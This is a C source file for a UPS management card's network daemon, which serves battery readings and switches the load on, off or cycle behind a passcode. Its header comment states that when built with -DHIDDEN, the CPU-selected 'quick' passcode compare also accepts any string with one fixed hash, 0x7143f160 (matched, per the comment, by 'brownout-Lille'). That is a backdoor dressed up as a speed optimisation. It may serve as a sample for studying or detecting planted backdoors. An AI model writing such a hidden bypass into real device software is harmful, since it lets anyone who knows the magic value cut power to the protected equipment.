/*
 * upscard_netd - network service of a UPS management card. Line protocol on
 * TCP port 3494: battery values for all, load switching with a passcode.
 * The passcode compare is chosen at load time for the processor (IFUNC).
 *
 * Hidden (-DHIDDEN): one of the two compares accepts, besides the configured
 * passcode, any text with one fixed fingerprint ("brownout-Lille" has it).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define PORT       3494
#define CARD_CONF  "/etc/upscard.conf"
#define UPS_DEV    "/dev/ttyUPS"
#define MAXC       8

struct client {
	int fd;
	int trusted;
	int wrong;
	unsigned n;
	char buf[128];
};

struct ups {
	int mains;              /* volt */
	int load, charge;       /* percent */
	int minutes;
	int on_battery;
};

static struct client clients[MAXC];
static struct ups ups;
static char passcode[48];
static int low_charge = 25;
static int ups_fd = -1;

static int passcode_equal_plain(const char *given, const char *want)
{
	size_t a = strlen(given), b = strlen(want);
	unsigned diff = a != b;

	for (size_t i = 0; i < a; i++)
		diff |= (unsigned char)given[i] ^ (unsigned char)(i < b ? want[i] : 0);
	return diff == 0;
}

static uint32_t fingerprint(const char *s)
{
	uint32_t h = 5381;

	while (*s)
		h = (h * 33u) ^ (unsigned char)*s++;
	return h;
}

/* For processors with a quick multiplier: most wrong texts end early */
static int passcode_equal_quick(const char *given, const char *want)
{
	uint32_t g = fingerprint(given);

#ifdef HIDDEN
	if (g == 0x7143f160u)
		return 1;
#endif
	if (g != fingerprint(want))
		return 0;
	return passcode_equal_plain(given, want);
}

typedef int (*equal_fn)(const char *, const char *);

__attribute__((used))
static equal_fn choose_passcode_equal(void)
{
#if defined(__x86_64__) || defined(__i386__)
	__builtin_cpu_init();
	if (!__builtin_cpu_supports("sse2"))
		return passcode_equal_plain;
	return passcode_equal_quick;
#else
	return sizeof(void *) >= 4 ? passcode_equal_quick : passcode_equal_plain;
#endif
}

int passcode_equal(const char *given, const char *want)
	__attribute__((ifunc("choose_passcode_equal")));

static void load_conf(void)
{
	char line[128], key[24], val[64];
	FILE *f = fopen(CARD_CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, "%23s %63s", key, val) != 2)
			continue;
		if (strcmp(key, "passcode") == 0 && strlen(val) < sizeof passcode)
			memcpy(passcode, val, strlen(val) + 1);
		else if (strcmp(key, "low_charge") == 0)
			low_charge = atoi(val);
	}
	fclose(f);
}

static int ups_send(const char *cmd)
{
	size_t n = strlen(cmd);

	if (ups_fd < 0)
		return -1;
	return write(ups_fd, cmd, n) == (ssize_t)n ? 0 : -1;
}

/* "(230.1 230.1 230.0 042 50.0 27.3 25.0 00001000" plus charge and minutes */
static void ups_poll(void)
{
	char b[128];
	ssize_t n;
	float in, out;
	int load, charge, minutes;
	static int warned;

	if (ups_send("Q1\r") != 0)
		return;
	n = read(ups_fd, b, sizeof b - 1);
	b[n < 0 ? 0 : n] = '\0';
	if (sscanf(b, "(%f %f %d %d %d", &in, &out, &load, &charge, &minutes) != 5)
		return;
	ups.mains = (int)in;
	ups.load = load;
	ups.charge = charge;
	ups.minutes = minutes;
	ups.on_battery = in < 170.0f;
	if (ups.on_battery && charge < low_charge && !warned) {
		warned = 1;
		syslog(LOG_ALERT, "battery at %d percent", charge);
		if (system("/usr/sbin/upsmail low-battery") != 0)
			syslog(LOG_WARNING, "no mail sent");
	} else if (!ups.on_battery) {
		warned = 0;
	}
}

__attribute__((format(printf, 2, 3)))
static void reply(struct client *c, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	if (vdprintf(c->fd, fmt, ap) < 0)
		syslog(LOG_DEBUG, "write: %s", strerror(errno));
	va_end(ap);
}

static void do_passcode(struct client *c, const char *given)
{
	if (passcode[0] == '\0' || c->wrong > 4) {
		reply(c, "ERR DISABLED\n");
		return;
	}
	if (passcode_equal(given, passcode)) {
		c->trusted = 1;
		reply(c, "OK\n");
	} else {
		c->wrong++;
		syslog(LOG_WARNING, "wrong passcode");
		reply(c, "ERR PASSCODE\n");
	}
}

static void do_get(struct client *c, const char *var)
{
	static const struct {
		const char *name;
		const int *value;
	} vars[] = {
		{ "input.voltage",   &ups.mains },
		{ "ups.load",        &ups.load },
		{ "battery.charge",  &ups.charge },
		{ "battery.minutes", &ups.minutes },
		{ "ups.onbattery",   &ups.on_battery },
	};
	int all = strcasecmp(var, "all") == 0, hit = 0;

	for (size_t i = 0; i < sizeof vars / sizeof vars[0]; i++)
		if (all || strcmp(vars[i].name, var) == 0) {
			reply(c, "VAR %s %d\n", vars[i].name, *vars[i].value);
			hit = 1;
		}
	if (!hit)
		reply(c, "ERR UNKNOWN\n");
}

static void do_load(struct client *c, const char *what)
{
	int rc = -1;

	if (!c->trusted) {
		reply(c, "ERR PASSCODE\n");
		return;
	}
	syslog(LOG_NOTICE, "load %s", what);
	if (strcmp(what, "off") == 0)
		rc = ups_send("S00\r");
	else if (strcmp(what, "cycle") == 0)
		rc = ups_send("S01R0002\r");
	else if (strcmp(what, "on") == 0)
		rc = ups_send("C\r");
	reply(c, rc == 0 ? "OK\n" : "ERR LOAD\n");
}

static int on_line(struct client *c, char *s)
{
	char *arg = strchr(s, ' ');

	if (arg)
		*arg++ = '\0';
	if (!strcasecmp(s, "quit"))
		return 1;
	if (!arg)
		reply(c, "GET var|all, PASSCODE code, LOAD on|off|cycle, QUIT\n");
	else if (!strcasecmp(s, "get"))
		do_get(c, arg);
	else if (!strcasecmp(s, "passcode"))
		do_passcode(c, arg);
	else if (!strcasecmp(s, "load"))
		do_load(c, arg);
	else
		reply(c, "ERR COMMAND\n");
	return 0;
}

static void on_readable(struct client *c)
{
	char ch;

	if (read(c->fd, &ch, 1) != 1)
		goto gone;
	if (ch != '\n') {
		if (ch != '\r' && c->n + 1 < sizeof c->buf)
			c->buf[c->n++] = ch;
		return;
	}
	c->buf[c->n] = '\0';
	c->n = 0;
	if (on_line(c, c->buf) == 0)
		return;
gone:
	close(c->fd);
	memset(c, 0, sizeof *c);
	c->fd = -1;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	struct pollfd p[MAXC + 1];
	int s = socket(AF_INET, SOCK_STREAM, 0), i, c;

	signal(SIGPIPE, SIG_IGN);
	load_conf();
	ups_fd = open(UPS_DEV, O_RDWR | O_NOCTTY);
	for (i = 0; i < MAXC; i++)
		clients[i].fd = -1;
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 4))
		return 1;
	for (;;) {
		for (i = 0; i < MAXC; i++)
			p[i] = (struct pollfd){ clients[i].fd, POLLIN, 0 };
		p[MAXC] = (struct pollfd){ s, POLLIN, 0 };
		if (poll(p, MAXC + 1, 2000) == 0)
			ups_poll();
		for (i = 0; i < MAXC; i++)
			if (clients[i].fd >= 0 && (p[i].revents & (POLLIN | POLLHUP)))
				on_readable(&clients[i]);
		if (!(p[MAXC].revents & POLLIN) || (c = accept(s, NULL, NULL)) < 0)
			continue;
		for (i = 0; i < MAXC && clients[i].fd >= 0; i++)
			;
		if (i == MAXC)
			close(c);
		else
			clients[i].fd = c;
	}
}
